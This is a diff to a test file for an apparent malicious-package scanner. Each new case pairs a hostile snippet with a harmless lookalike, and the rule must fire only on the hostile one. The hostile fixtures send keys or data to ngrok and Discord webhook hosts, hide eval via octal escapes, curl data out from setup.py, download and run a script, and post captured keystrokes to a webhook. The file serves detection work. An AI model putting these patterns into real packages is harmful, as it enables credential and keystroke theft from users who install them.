@@ -85,6 +85,23 @@ CASES = [
     ("STATIC-DEP-CONFUSION-PROBE",
      (P, "pkg", sdist("pkg", setup_py('import requests\nrequests.get("http://x1y2z3.oastify.com/p")'))),
      (P, "pkg", sdist("pkg", setup_py('URL = "https://webhooks.example.com/site"')))),
+    ("STATIC-DEP-CONFUSION-PROBE",  # ngrok's newer free domain (hexdecli-style key upload)
+     (P, "pkg", sdist("pkg", module('import requests\nrequests.post("https://a-b-c.ngrok-free.dev/tron", [key])'))),
+     (P, "pkg", sdist("pkg", module('TUNNEL_DOCS = "https://ngrok.com/docs/getting-started"')))),
+    ("STATIC-DEP-CONFUSION-PROBE",  # a wildcard in a CSP allow-list (coinley-pay's bundle) names no host
+     (P, "pkg", sdist("pkg", module('import requests\nrequests.get("https://k3j2.ngrok-free.app/p?d=" + data)'))),
+     (P, "pkg", sdist("pkg", module('CSP = ["https://*.vercel.app", "https://*.ngrok-free.app", "https://*.pages.dev"]')))),
+    ("STATIC-PY-EXEC-OBFUSCATED",  # BlankOBF: builtins' names spelled in octal escapes
+     (P, "pkg", sdist("pkg", module('_e = eval("\\145\\166\\141\\154")\n_c = _e("\\143\\157\\155\\160\\151\\154\\145")'))),
+     (P, "pkg", sdist("pkg", module('RESET = "\\033[0m"\nprint("\\033[1m\\033[31m" + msg + RESET)\nvalue = eval("1 + 2")')))),
+    ("STATIC-INSTALL-HOOK-NETWORK",  # curl as a process argument list (free-net-vpn)
+     (P, "pkg", sdist("pkg", setup_py('import subprocess\nsubprocess.check_output(["curl", URL + "/?d=" + data])'))),
+     (P, "pkg", sdist("pkg", setup_py('import subprocess\nsubprocess.check_output(["git", "describe", "--tags"])')))),
+    ("STATIC-DOWNLOAD-RUN-SCRIPT",  # the loader written with mode "w+" (manyhttps)
+     (P, "pkg", sdist("pkg", module('import urllib.request, subprocess\nx = urllib.request.urlopen(U).read()\n'
+                                    'with open("pip.py", "w+") as f:\n    f.write(x)\nsubprocess.Popen(["python", "pip.py"])'))),
+     (P, "pkg", sdist("pkg", module('import urllib.request, subprocess\nx = urllib.request.urlopen(U).read()\n'
+                                    'with open("data.json", "w+") as f:\n    f.write(x)\nsubprocess.Popen(["git", "status"])')))),
     ("STATIC-WEBHOOK-EXFIL",
      (P, "pkg", sdist("pkg", module('import requests\nrequests.post("https://discord.com/api/webhooks/123456/abcdef", json=d)'))),
      (P, "pkg", sdist("pkg", module('DOCS = "https://discord.com/developers/docs/resources/webhook"')))),
@@ -300,3 +317,15 @@ def test_rule_fires_on_malicious_and_not_on_lookalike(judged, rule, malicious, b
             assert finding["evidence"]["excerpt"]
     good = _judge(judged, benign)
     assert rule not in good["rules_fired"], good["findings"]
+
+
+def test_a_keyboard_hook_alone_is_a_macro_tool_and_sending_the_keys_is_not(judged):
+    # pytinytask-style recorder: the capability is its purpose
+    hook = ("import keyboard\nEVENTS = []\ndef on_key_event(e):\n    EVENTS.append((e.name, e.time))\n"
+            "def record():\n    keyboard.hook(on_key_event)\n")
+    v = judged(sdist("pkg", module(hook)), P, "pkg")
+    assert "STATIC-KEYLOGGER" in v["rules_fired"] and v["label"] == "benign", v
+    # the same hook whose keys go to a webhook
+    v = judged(sdist("pkg", module(hook + "import requests\ndef flush():\n    requests.post("
+                                   "'https://discord.com/api/webhooks/1/x', json={'k': EVENTS})\n")), P, "pkg")
+    assert v["label"] == "malicious", v
